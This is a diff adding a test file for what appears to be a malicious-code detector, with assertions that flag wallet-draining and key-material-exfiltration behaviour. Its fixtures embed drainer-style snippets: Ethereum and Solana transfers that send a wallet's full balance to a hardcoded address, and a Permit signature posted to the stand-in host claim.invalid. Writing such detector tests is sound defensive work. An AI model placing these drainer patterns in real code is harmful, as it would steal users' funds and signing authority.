@@ -1,0 +1,40 @@
+import assert from 'node:assert/strict';
+import { behavioursOf, flowsOf } from './sent.js';
+
+const OWN = "'0x658729879fca881d9526480b82ae00efc54b5c2d'";
+const ETHEREUM = (to: string, value: string) =>
+  `async function run(p) { const all = await p.request({ method: 'eth_getBalance', params: ['x', 'latest'] });
+    await p.request({ method: 'eth_sendTransaction', params: [{ from: 'x', to: ${to}, value: ${value} }] }); }
+  exports.connect = (o) => { run(window.ethereum); };`;
+const SOLANA = (to: string, value: string) =>
+  `const { Connection, SystemProgram, PublicKey } = require('@solana/web3.js');
+  exports.run = async (to) => { const all = await new Connection('https://rpc.invalid').getBalance(to);
+    return SystemProgram.transfer({ fromPubkey: to, toPubkey: ${to}, lamports: ${value} }); };`;
+const KEY = "new PublicKey('4Nd1mBQtrMJVYVfKf2PJy9NZUZdTAsp7D4xWLs4gDB4T')";
+
+describe('wallets', () => {
+  it('are drained where all that is in them goes to an address of the code', () => {
+    assert.deepEqual(behavioursOf(ETHEREUM(OWN, 'all')), ['drains-wallet call']);
+    assert.deepEqual(behavioursOf(SOLANA(KEY, 'all - 5000')), ['drains-wallet call']);
+  });
+
+  it('may show what is in them, and pay an amount or whom a caller names', () => {
+    assert.deepEqual(behavioursOf(ETHEREUM(OWN, "'0x10'")), []);
+    assert.deepEqual(behavioursOf(ETHEREUM('window.to', 'all')), []);
+    assert.deepEqual(behavioursOf(SOLANA(KEY, '1000')), []);
+    assert.deepEqual(behavioursOf(SOLANA('to', 'all')), []);
+  });
+
+  it('sign permits, which are keys where they are for an address of the code', () => {
+    const sign = (data: string) =>
+      flowsOf(`exports.run = async (d) => { const s = await window.ethereum.request({ method: 'eth_signTypedData_v4', params: ['x', ${data}] });
+        await fetch('https://claim.invalid', { method: 'POST', body: JSON.stringify({ s }) }); };`);
+    assert.deepEqual(sign(`JSON.stringify({ primaryType: 'Permit', message: { spender: ${OWN} } })`), [
+      'key-material>network@claim.invalid',
+    ]);
+    assert.deepEqual(sign(`{ primaryType: 'Permit', message: { spender: ${OWN} } }`), [
+      'key-material>network@claim.invalid',
+    ]);
+    assert.deepEqual(sign(`JSON.stringify({ primaryType: 'Login', message: { nonce: d } })`), []);
+  });
+});
